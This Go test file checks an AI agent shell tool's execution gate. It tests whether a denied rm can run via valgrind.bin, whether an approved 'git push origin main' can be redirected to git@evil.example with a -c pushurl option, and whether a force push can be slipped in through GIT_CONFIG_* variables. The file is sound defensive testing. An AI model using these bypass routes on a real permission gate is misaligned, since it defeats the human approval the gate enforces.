//go:build linux

package shelltool

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/onellm/onellm-mcp/grants"
)

// TestExecGateValgrindClient (review rev20d H1): valgrind's launcher
// (valgrind.bin) and its tools load the client program themselves, with no
// execve the gate sees, so the client must be decided from their argv as
// the line analysis decides `valgrind rm x`: deny rm and a critical rm -r
// outside hold for it.
func TestExecGateValgrindClient(t *testing.T) {
	needProgram(t, "valgrind.bin")
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	p := policyFor(t, ws, "profile = \"interactive-dev\"\n[[rules.deny]]\nrule_id = \"no-rm\"\ncapability = \"process.exec\"\ntarget = { resource = \"rm\" }\n")
	// valgrind runs in the sandbox (so the test can fail): an allowed
	// program it loads runs.
	if out := runTool(t, &Tool{}, (&gateCall{}).env(p), "valgrind.bin -q --tool=none /bin/echo loaded"); !strings.Contains(out.Stdout, "loaded") {
		t.Fatalf("valgrind.bin does not run in the sandbox: %+v", out)
	}
	victim := filepath.Join(ws, "victim")
	for _, cmd := range []string{
		"sh -c 'valgrind.bin -q --tool=none rm " + victim + "'; echo rc=$?",
		"sh -c 'valgrind.bin -q --tool=none --trace-children=no rm -f -- " + victim + "'; echo rc=$?",
	} {
		if err := os.WriteFile(victim, []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
		out := runTool(t, &Tool{}, (&gateCall{}).env(p), cmd)
		if _, err := os.Stat(victim); err != nil {
			t.Errorf("%s: rm ran under valgrind (%+v)", cmd, out)
		}
		if !strings.Contains(out.Stdout, "rc=137") {
			t.Errorf("%s: valgrind.bin not killed at its exec: %q", cmd, out.Stdout)
		}
	}
}

// TestExecGateGitFormApproval (review rev20d H2): the approval of the
// line's `git push origin main` holds for that push, not for one whose
// global options move it to another remote or repository: the git form
// the gate makes by dropping them must not take the approved request's
// identity.
func TestExecGateGitFormApproval(t *testing.T) {
	ws := gitWorkspace(t, "git remote add origin git@github.com:me/proj.git")
	p := policyFor(t, ws, "profile = \"interactive-dev\"\n[[rules.ask]]\nrule_id = \"ask-push\"\ncapability = \"process.exec\"\ntarget = { command = \"git push*\" }\n")
	tool := &Tool{}
	tool.Start(p)
	args, _ := json.Marshal(Args{Command: "git push origin main"})
	plan, err := tool.Plan(context.Background(), (&gateCall{}).env(p), args)
	if err != nil {
		t.Fatal(err)
	}
	var approved []grants.Request
	for _, r := range plan.Requests {
		if d := p.Decide(r); d.Effect == grants.Ask {
			approved = append(approved, d.Request)
		}
	}
	// A stand-in for ssh logs where git would connect.
	script := `printf '#!/bin/sh\necho "$*" >>/tmp/ssh.log\nexit 1\n' >/tmp/fakessh; chmod +x /tmp/fakessh
export GIT_SSH_COMMAND=/tmp/fakessh
printf 'git push origin main\ngit -c remote.origin.pushurl=git@evil.example:x/y.git push origin main\n' >/tmp/p.sh; sh /tmp/p.sh
cat /tmp/ssh.log`
	out := runTool(t, tool, approvingEnv(p, approved), script)
	if strings.Contains(out.Stdout, "evil.example") {
		t.Errorf("the approval of `git push origin main` let a push to another remote run: %q", out.Stdout)
	}
	if !strings.Contains(out.Stdout, "git@github.com") {
		t.Errorf("the approved push itself did not run (the test proves nothing): %q", out.Stdout)
	}
}

// TestExecGateForcePushByConfig (review rev20d H3): a push whose forcing
// refspec comes from configuration (GIT_CONFIG_* in its environment, -c,
// the repository's remote.<name>.push) is a force push: critical, killed
// unless approved in the call.
func TestExecGateForcePushByConfig(t *testing.T) {
	ws := gitWorkspace(t, "git init -q --bare origin.git && git remote add origin ./origin.git && git push -q origin main")
	p := policyFor(t, ws, `profile = "interactive-dev"`)
	script := `git -c user.email=a@b -c user.name=a commit -q --allow-empty -m second && git push -q origin main
git -c user.email=a@b -c user.name=a commit -q --amend --allow-empty -m rewritten
printf 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.push GIT_CONFIG_VALUE_0=+refs/heads/main:refs/heads/main git push -q origin\n' >/tmp/p.sh; sh /tmp/p.sh
git -C origin.git log --format=%s main`
	out := runTool(t, &Tool{}, (&gateCall{}).env(p), script)
	if strings.Contains(out.Stdout, "rewritten") {
		t.Errorf("a forced push ran unapproved: %q", out.Stdout)
	}
	if !strings.Contains(out.Stdout, "second") {
		t.Errorf("a plain push did not run (the test proves nothing): %q", out.Stdout)
	}
}

// gitWorkspace is a workspace holding a git repository on main with one
// commit, after which more runs there (git being needed).
func gitWorkspace(t *testing.T, more string) string {
	t.Helper()
	needProgram(t, "git")
	ws, _ := filepath.EvalSymlinks(t.TempDir())
	c := exec.Command("sh", "-c", "git init -q -b main . && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m init && "+more)
	c.Dir = ws
	if b, err := c.CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, b)
	}
	return ws
}
